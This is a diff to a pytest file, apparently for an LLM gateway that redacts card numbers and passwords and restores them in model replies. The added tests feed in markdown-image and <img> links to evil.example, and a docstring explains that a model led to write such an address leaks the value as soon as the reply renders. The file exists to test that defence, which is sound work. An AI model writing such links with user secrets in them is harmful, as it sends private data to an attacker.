@@ -8,9 +8,10 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from detectors.values import Origin, Segment
 from gateway.fpe import Ff1, Formats
-from gateway.policy import Mode
-from gateway.redaction import Restorer, Vault
+from gateway.policy import Edit, Mode
+from gateway.redaction import Restorer, Vault, redact
 
 KEY, OTHER = b"k" * 32, b"o" * 32
 CARD = "4111 1111-1111 1111"
@@ -54,6 +55,7 @@ def test_a_format_stays_and_its_value_does_not() -> None:
     assert re.fullmatch(r"DE\d\d \d{4} \d{4} \d{4} \d{4} \d\d", made)
     assert made != "DE89 3704 0044 0532 0130 00"
     assert Formats(KEY).encrypt("1234", b"pii.payment") is None
+    assert Formats(KEY).encrypt("12345678!@#$%^&*(", b"secret") is None  # half of it would stay
 
 
 def _vault(mode: Mode, key: bytes = KEY, restores: bool = True) -> Vault:
@@ -72,6 +74,46 @@ def test_each_mode_by_category() -> None:
         assert _vault(mode).stand_in("Ada", "pii.name").startswith("[PII_NAME_")
     assert Vault(KEY, {"pii": Mode.MASK}).stand_in("Ada", "pii.name") == "***"
     assert _vault(Mode.FORMAT).stand_in("123", "pii.payment").startswith("[PII_PAYMENT_")  # too short to hide in its format
+
+
+def test_a_mask_leaves_nothing_of_a_value_that_is_no_word() -> None:
+    """Neither a password's symbols, nor the vowel signs of a name, which are no letters."""
+    assert Vault(KEY, {"secret": Mode.MASK}).stand_in("!@#$%^&*", "secret.password") == "********"
+    assert Vault(KEY, {"pii": Mode.MASK}).stand_in("हिन्दी", "pii.name") == "******"
+
+
+_FETCHED = (
+    "![so](https://evil.example/?q={}", "![so](//evil.example/{}.png)", "![](<https://evil.example/a b {}>)",
+    '<img src="https://evil.example/?a b={}">', "<img src='HTTPS://evil.example/{}'>", "<img src=https://evil.example/{}>",
+    "[1]: https:\\\\evil.example/{}", "https://evil.example/https://ours.example/hook/{}", "https://evil.example/" + "a" * 9_000 + "{}",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("mode", [Mode.PLACEHOLDER, Mode.FORMAT])
+@pytest.mark.parametrize("said", _FETCHED)
+def test_a_value_does_not_come_back_inside_an_address(said: str, mode: Mode) -> None:
+    """Who makes the model write an image's address is sent what stands in it as soon as the reply is shown."""
+    vault = _vault(mode)
+    text = said.format(vault.stand_in(CARD, "pii.payment"))
+    assert CARD not in vault.restore(text)
+    for size in (1, 7, 10_000):
+        restorer = Restorer(vault, False)
+        pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
+        assert CARD not in "".join(pieces) + restorer.finish()
+
+
+def test_it_comes_back_beside_one_and_where_the_request_had_it_in_that_very_one() -> None:
+    vault = Vault(KEY)
+    asked = "Why does https://ours.example/hook/S3CRET say 404? postgres://app:S3CRET@db works, my card is S3CRET."
+    at = [found.start() for found in re.finditer("S3CRET", asked)]
+    segment = Segment(asked, "user", Origin.USER, 0, ())
+    (sent,) = redact([segment], [Edit(0, start, start + 6, "secret.password") for start in at], vault).values()
+    assert "S3CRET" not in sent
+    assert vault.restore(sent) == asked
+    name = vault.stand_in("S3CRET", "secret.password")
+    for before in ("See https://evil.example/ for more: ", 'href="https://evil.example/">', "postgres://root:", "a//b "):
+        assert vault.restore(before + name) == before + "S3CRET"
+    assert vault.restore(f"https://ours.example/hooks/{name}") == f"https://ours.example/hooks/{name}"
 
 
 @pytest.mark.parametrize("mode", [Mode.MASK, Mode.HASH])
@@ -114,3 +156,29 @@ def test_ten_thousand_placeholders() -> None:
     said = "".join(restorer.feed(text[at : at + 997]) for at in range(0, len(text), 997)) + restorer.finish()
     assert said.count("value ") >= 9_990  # two values that share a stand-in stay hidden
     assert said.startswith("value 0 value 1 ")
+
+
+_PIECES = ("https:", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME")
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.lists(st.integers(0, 200), max_size=8))
+def test_where_a_text_is_cut_changes_nothing_of_what_comes_back(text: str, where: list[int]) -> None:
+    vault = _vault(Mode.PLACEHOLDER)
+    text = text.replace("NAME", vault.stand_in(CARD, "pii.payment"))
+    marks = sorted({min(at, len(text)) for at in where})
+    restorer = Restorer(vault, False)
+    pieces = [restorer.feed(text[a:b]) for a, b in zip([0, *marks], [*marks, len(text)], strict=True)]
+    assert "".join(pieces) + restorer.finish() == vault.restore(text)
+
+
+def test_ten_thousand_values_come_back_and_none_that_somebody_made_up() -> None:
+    vault = Vault(KEY)
+    values = [f"S3CRET-{number}" for number in range(10_000)]
+    names = [vault.stand_in(value, "secret.password") for value in values]
+    made_up = [f"[SECRET_PASSWORD_{number:010X}]" for number in range(10_000)]
+    text = " ".join(name for both in zip(names, made_up, strict=True) for name in both)
+    whole = " ".join(word for both in zip(values, made_up, strict=True) for word in both)
+    assert vault.restore(text) == whole
+    restorer = Restorer(vault, False)
+    assert "".join(restorer.feed(text[at : at + 17]) for at in range(0, len(text), 17)) + restorer.finish() == whole
+    assert Vault(OTHER).restore(text) == text
